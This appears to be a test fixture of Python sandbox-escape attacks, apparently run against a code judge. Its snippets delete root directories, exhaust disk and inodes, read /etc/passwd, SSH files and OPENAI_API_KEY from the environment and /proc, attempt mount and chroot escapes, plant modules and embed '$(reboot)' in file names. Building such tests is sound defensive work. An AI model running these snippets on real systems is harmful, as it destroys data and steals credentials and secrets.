# attack: writes outside
open("@PWN@/written", "w").write("x")

# attack: deletes outside
import os

os.unlink("@PWN@/victim")

# attack: deletes whole trees
import shutil

for path in ("@PWN@", "/usr", "/lib", "/etc", "/home", "/root", "/"):
    shutil.rmtree(path, ignore_errors=True)

# attack: changes modes and times outside
import os

for change in (lambda: os.chmod("@PWN@/victim", 0), lambda: os.utime("@PWN@/victim", (0, 0))):
    change()

# attack: fills the disk
import os

for number in range(300):
    with open(f"/tmp/big{number}", "wb") as file:
        for _ in range(60):
            file.write(b"x" * (1 << 20))

# attack: fills the disk through one file
with open("/tmp/big", "wb") as file:
    while True:
        file.write(b"x" * (1 << 20))

# attack: sparse file
import os

with open("/tmp/sparse", "wb") as file:
    os.truncate(file.fileno(), 1 << 50)

# attack: all inodes
number = 0
while True:
    open(f"/tmp/{number}", "w").close()
    number += 1

# attack: folders too deep to list
import os

for _ in range(3000):
    os.mkdir("d" * 100)
    os.chdir("d" * 100)

# attack: folders that cannot be listed
import os

os.makedirs("/tmp/locked/inner")
open("/tmp/locked/inner/file", "w").close()
os.chmod("/tmp/locked/inner", 0)
os.chmod("/tmp/locked", 0)

# attack: names that no shell would like
import os

for name in ("-rf", "a\nb", " ", "\u202e", "\udcff", "*", "~", "$(reboot)", "`reboot`"):
    open(os.path.join("/tmp", name), "w").close()

# attack: links to what it may not read
import os

os.symlink("/etc/passwd", "/tmp/link")
os.symlink("@PWN@", "/tmp/folder")
print("LEAKED", open("/tmp/link").read()[:10])

# attack: link for the cleaner to follow
import os

os.symlink("@PWN@", "/tmp/pwn")
os.symlink("/", "/tmp/root")
os.makedirs("/tmp/a/b")
os.symlink("@PWN@", "/tmp/a/b/pwn")

# attack: hard link
import os

os.link("@PWN@/victim", "/tmp/victim")
open("/tmp/victim", "w").write("overwritten")

# attack: reads the users
print("LEAKED", open("/etc/passwd").read()[:20])

# attack: reads the users by io
import io
import os

io.open("@PWN@/leaked", "w").write(io.open("/etc/passwd").read()[:9])

# attack: reads home
import os

for path in ("/root", "/home", os.path.expanduser("~root")):
    for name in (".bashrc", ".profile", ".ssh", ".bash_history", ".netrc"):
        if os.path.exists(os.path.join(path, name)):
            print("LEAKED", name)

# attack: reads the environment
import os

print("LEAKED", os.environ["OPENAI_API_KEY"])

# attack: reads the environment of its parent
import os

for pid in (1, os.getppid(), "self"):
    try:
        data = open(f"/proc/{pid}/environ", "rb").read()
    except OSError:
        continue
    if b"OPENAI" in data:
        print("LEAKED", data[:20])

# attack: reads the environment from memory
import ctypes

environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
index = 0
while environ and environ[index]:
    if b"OPENAI" in environ[index]:
        print("LEAKED", environ[index])
    index += 1

# attack: memory of the judge through /proc
import os

for pid in (1, os.getppid(), 2, 3):
    if pid != os.getpid():
        try:
            with open(f"/proc/{pid}/mem", "rb") as memory:
                print("LEAKED", memory.fileno())
        except OSError:
            pass

# attack: own memory through /proc
with open("/proc/self/mem", "r+b") as memory:
    memory.seek(id(add) if "add" in globals() else id(print))
    memory.write(b"\0" * 64)

# attack: raw devices
for path in ("/dev/mem", "/dev/kmem", "/dev/sda", "/dev/vda", "/dev/kmsg"):
    try:
        open(path, "rb").read(1)
        print("LEAKED", path)
    except OSError:
        pass

# attack: makes a device
import os

os.mknod("/tmp/disk", 0o60666, os.makedev(254, 0))
print("LEAKED", open("/tmp/disk", "rb").read(16))

# attack: mounts
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
for kind in (b"proc", b"tmpfs", b"sysfs", b"devtmpfs", b"cgroup2"):
    if libc.mount(b"none", b"/tmp", kind, 0, None) == 0:
        print("LEAKED mounted", kind)
if libc.mount(b"none", b"/", None, 32, None) == 0:
    print("LEAKED remounted the root")
if libc.umount2(b"/tmp", 2) == 0:
    print("LEAKED unmounted /tmp")

# attack: leaves the root
import os

try:
    os.mkdir("/tmp/jail")
    os.chroot("/tmp/jail")
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
    print("LEAKED chroot")
except OSError:
    pass
print("LEAKED", open("../../../../../../../../../etc/passwd").read())

# attack: open by handle
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
if libc.open_by_handle_at(-100, ctypes.create_string_buffer(64), 0) >= 0:
    print("LEAKED opened by handle")

# attack: writes into the interpreter
import os
import sys

for module in (os, sys.modules["json"] if "json" in sys.modules else os):
    open(module.__file__, "a").write("\nraise SystemExit\n")

# attack: plants a module for the next program
import os
import sys

for folder in sys.path + ["/tmp", "."]:
    for name in ("sitecustomize.py", "usercustomize.py", "json.py"):
        try:
            open(os.path.join(folder, name), "w").write("raise SystemExit\n")
        except OSError:
            pass

# attack: descriptors of the lane
import os

for number in range(3, 1024):
    try:
        target = os.fstat(number)
        os.lseek(number, 0, 0)
        print("LEAKED", number, os.read(number, 20))
    except OSError:
        pass
